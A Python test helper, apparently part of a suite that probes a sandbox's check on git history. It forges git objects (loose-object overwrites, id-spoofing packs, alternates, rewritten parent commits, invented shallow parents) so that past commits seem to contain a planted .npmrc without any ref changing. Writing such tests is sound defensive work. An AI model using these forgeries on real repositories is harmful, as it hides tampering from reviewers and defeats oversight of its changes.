"""An attacker's script, run inside the sandbox by the tests (`python3 forge.py HOW`): it makes
git show, for a commit the repository had before the session, a tree whose `.npmrc` is the one
the command just wrote, without changing any ref. HOW is where the forged object goes:

- `loose`: over the tree's own loose object file;
- `pack`: a new pack claiming the tree's id (git looks in packs before loose objects);
- `bigpack`: that, with a true 20 MiB blob beside it;
- `alternates`: such a pack in a directory of TMPDIR that `objects/info/alternates` names;
- `commit`: over the loose object of the tip's parent commit, naming the forged tree;
- `parent`: a shallow repository's missing parent, made up, and the `shallow` file emptied.

Standard library and the git command line only, as a command would.
"""

from __future__ import annotations

import hashlib
import os
import struct
import subprocess
import sys
import zlib

TYPES = {"commit": 1, "tree": 2, "blob": 3, "tag": 4}


def git(*args: str, given: bytes | None = None) -> bytes:
    return subprocess.run(["git", *args], input=given, capture_output=True, check=True).stdout


def text(*args: str, given: bytes | None = None) -> str:
    return git(*args, given=given).decode().strip()


def loose(store: str, object_id: str, kind: str, body: bytes) -> None:
    path = os.path.join(store, object_id[:2], object_id[2:])
    os.makedirs(os.path.dirname(path), exist_ok=True)
    if os.path.exists(path):
        os.unlink(path)  # read-only, in a writable directory
    with open(path, "wb") as f:
        f.write(zlib.compress(b"%s %d\0" % (kind.encode(), len(body)) + body))


def pack(directory: str, objects: list[tuple[str, str, bytes]]) -> None:
    """A pack of `objects` (id, kind, body), each under the id given, with its index
    (version 2)."""
    data = b"PACK" + struct.pack(">II", 2, len(objects))
    entries: list[tuple[bytes, int, int]] = []
    for object_id, kind, body in objects:
        size = len(body)
        byte = (TYPES[kind] << 4) | (size & 15)
        size >>= 4
        header = bytearray()
        while size:
            header.append(byte | 0x80)
            byte = size & 0x7F
            size >>= 7
        header.append(byte)
        entry = bytes(header) + zlib.compress(body)
        entries.append((bytes.fromhex(object_id), zlib.crc32(entry), len(data)))
        data += entry
    data += hashlib.sha1(data).digest()
    entries.sort()
    fanout = b"".join(
        struct.pack(">I", sum(raw[0] <= i for raw, _, _ in entries)) for i in range(256)
    )
    index = b"\xfftOc" + struct.pack(">I", 2) + fanout + b"".join(raw for raw, _, _ in entries)
    index += b"".join(struct.pack(">I", crc) for _, crc, _ in entries)
    index += b"".join(struct.pack(">I", at) for _, _, at in entries) + data[-20:]
    index += hashlib.sha1(index).digest()
    os.makedirs(directory, exist_ok=True)
    name = os.path.join(directory, f"pack-{data[-20:].hex()}")
    with open(name + ".pack", "wb") as f:
        f.write(data)
    with open(name + ".idx", "wb") as f:
        f.write(index)


def padding(size: int) -> tuple[str, str, bytes]:
    """A true blob of `size` random bytes: a pack over the size once left unverified."""
    body = os.urandom(size)
    return hashlib.sha1(b"blob %d\0" % size + body).hexdigest(), "blob", body


def main(how: str) -> None:
    store = text("rev-parse", "--git-path", "objects")
    planted = text("hash-object", "-w", ".npmrc")
    listing = [
        f"100644 blob {planted}\t.npmrc" if line.endswith("\t.npmrc") else line
        for line in text("ls-tree", "feature").splitlines()
    ]
    tree = text("mktree", given=("\n".join(listing) + "\n").encode())
    body = git("cat-file", "tree", tree)
    old_tree = text("rev-parse", "feature^{tree}")
    if how == "loose":
        loose(store, old_tree, "tree", body)
    elif how == "pack":
        pack(os.path.join(store, "pack"), [(old_tree, "tree", body)])
    elif how == "bigpack":
        pack(os.path.join(store, "pack"), [(old_tree, "tree", body), padding(20 << 20)])
    elif how == "alternates":
        elsewhere = os.path.join(os.environ["TMPDIR"], "objects")
        pack(os.path.join(elsewhere, "pack"), [(old_tree, "tree", body)])
        with open(os.path.join(store, "info", "alternates"), "a") as f:
            f.write(elsewhere + "\n")
    elif how == "commit":
        # The tip's own object fails git's hash check where it peels a ref; its parent's
        # is read unchecked.
        parent = text("rev-parse", "feature~1")
        old = text("rev-parse", "feature~1^{tree}")
        commit = git("cat-file", "commit", parent).replace(old.encode(), tree.encode(), 1)
        loose(store, parent, "commit", commit)
    elif how == "parent":
        shallow = text("rev-parse", "--git-path", "shallow")
        with open(shallow) as f:
            boundary = f.read().split()
        for tip in boundary:
            commit = git("cat-file", "commit", tip).decode()
            missing = [
                line.split()[1] for line in commit.splitlines() if line.startswith("parent ")
            ]
            made = (
                f"tree {tree}\nauthor t <t@example.com> 1 +0000\n"
                "committer t <t@example.com> 1 +0000\n\nmade up\n"
            ).encode()
            for parent in missing:
                loose(store, parent, "commit", made)
        os.unlink(shallow)
    else:
        raise SystemExit(f"unknown way: {how}")
    print("forged", how)


if __name__ == "__main__":
    main(sys.argv[1])
